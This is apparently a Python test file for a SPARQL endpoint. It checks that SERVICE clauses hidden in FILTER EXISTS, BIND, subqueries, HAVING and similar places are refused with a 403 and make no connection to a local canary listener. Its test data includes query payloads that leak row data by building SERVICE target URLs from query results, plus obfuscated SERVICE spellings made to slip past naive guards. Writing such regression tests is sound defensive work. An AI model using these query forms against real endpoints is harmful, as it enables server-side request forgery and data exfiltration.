"""Issue 13 item 1: SERVICE is refused wherever the grammar lets a query put it.

rdflib's `translateQuery` removes the FILTERs from the parse tree it is given, so a guard that
walked that tree missed `FILTER NOT EXISTS { SERVICE ... }`, which the engine then ran once per
row. The named tests are the reported cases; the property test lets hypothesis hide SERVICE
under any stack of the grammar's containers. Every one must be refused (403) with no connection
made to the loopback canary (a TCP listener of this test session).
"""

from __future__ import annotations

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.api.api_support import Canary

TRIPLE = "?s ?p ?o"


def service(target: str, silent: bool = False) -> str:
    return f"SERVICE {'SILENT ' if silent else ''}{target} {{ ?x ?y ?z }}"


def ask(client: httpx.Client, query: str) -> httpx.Response:
    return client.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"})


@pytest.mark.parametrize("keyword", ["EXISTS", "NOT EXISTS"])
def test_item01_service_in_filter_exists_refused(
    client: httpx.Client, canary: Canary, keyword: str
) -> None:
    before = canary.connections
    q = f"SELECT * WHERE {{ {TRIPLE} FILTER {keyword} {{ {service(f'<{canary.url}>')} }} }} LIMIT 1"
    r = ask(client, q)
    assert r.status_code == 403, r.text
    assert "SERVICE" in r.json()["error"]
    assert canary.connections == before


def test_item01_service_target_built_from_the_data_refused(
    client: httpx.Client, canary: Canary
) -> None:
    """The exfiltration form: the target IRI is made per row from the data."""
    before = canary.connections
    q = (
        "SELECT * WHERE { ?s ?p ?o "
        f'BIND(IRI(CONCAT("{canary.url}?", ENCODE_FOR_URI(STR(?o)))) AS ?t) '
        f"FILTER NOT EXISTS {{ {service('?t', silent=True)} }} }}"
    )
    r = ask(client, q)
    assert r.status_code == 403, r.text
    assert canary.connections == before


# --- the property: SERVICE under any stack of containers ------------------------------------

# Each wrapper puts a group pattern X somewhere the grammar allows a pattern (or an EXISTS).
PATTERN_WRAPPERS = [
    "{{ {x} }}",
    "OPTIONAL {{ {x} }}",
    "MINUS {{ {x} }}",
    "{{ {x} }} UNION {{ ?a ?b ?c }}",
    "{{ ?a ?b ?c }} UNION {{ {x} }}",
    "GRAPH ?g {{ {x} }}",
    "GRAPH <https://w3id.org/migkg/graph/build> {{ {x} }}",
    "FILTER EXISTS {{ {x} }}",
    "FILTER NOT EXISTS {{ {x} }}",
    "FILTER(?s != ?o || NOT EXISTS {{ {x} }})",
    "FILTER(IF(EXISTS {{ {x} }}, true, false))",
    "BIND(EXISTS {{ {x} }} AS ?e)",
    "BIND(COALESCE(NOT EXISTS {{ {x} }}, 1) AS ?e)",
    "{{ SELECT * WHERE {{ {x} }} }}",
    "{{ SELECT ?s (COUNT(*) AS ?n) WHERE {{ {x} }} GROUP BY ?s }}",
    "?s ?p ?o . {x}",
]
# The outermost query form; {x} is the (wrapped) pattern.
FORMS = [
    "SELECT * WHERE {{ ?s ?p ?o . {x} }} LIMIT 3",
    "ASK {{ {x} }}",
    "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ ?s ?p ?o {x} }} LIMIT 3",
    "SELECT (EXISTS {{ {x} }} AS ?e) WHERE {{ ?s ?p ?o }} LIMIT 3",
    "SELECT ?s WHERE {{ ?s ?p ?o }} GROUP BY ?s HAVING(EXISTS {{ {x} }}) LIMIT 3",
    "SELECT ?s WHERE {{ ?s ?p ?o }} ORDER BY (NOT EXISTS {{ {x} }}) LIMIT 3",
    "DESCRIBE ?s WHERE {{ ?s ?p ?o {x} }} LIMIT 3",
]


def targets(canary: str) -> st.SearchStrategy[str]:
    """The SERVICE clause itself: a constant IRI, a prefixed name, an escaped keyword, or a
    variable bound from the data."""
    return st.sampled_from(
        [
            service(f"<{canary}>"),
            service(f"<{canary}>", silent=True),
            f"sErViCe <{canary}> {{ ?x ?y ?z }}",
            f"\\u0053ERVICE <{canary}> {{ ?x ?y ?z }}",
            f"SERVICE # a comment\n <{canary}> {{ ?x ?y ?z }}",
            f'BIND(IRI(CONCAT("{canary}?", STR(?s))) AS ?t) {service("?t", silent=True)}',
        ]
    )


@st.composite
def hidden_service(draw: st.DrawFn, canary: str) -> str:
    x = draw(targets(canary))
    for wrapper in draw(st.lists(st.sampled_from(PATTERN_WRAPPERS), min_size=0, max_size=4)):
        x = wrapper.format(x=x)
    form = draw(st.sampled_from(FORMS))
    return form.format(x=x)


@settings(
    max_examples=80,
    deadline=None,
    derandomize=True,  # the same examples on every run: CI stays reproducible
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_item01_service_hidden_anywhere_refused_without_connection(
    client: httpx.Client, canary: Canary, data: st.DataObject
) -> None:
    query = data.draw(hidden_service(canary.url), label="query")
    before = canary.connections
    r = ask(client, query)
    assert r.status_code == 403, (query, r.status_code, r.text[:300])
    assert "SERVICE" in r.json()["error"]
    assert r.json()["status"] == 403
    assert canary.connections == before, query
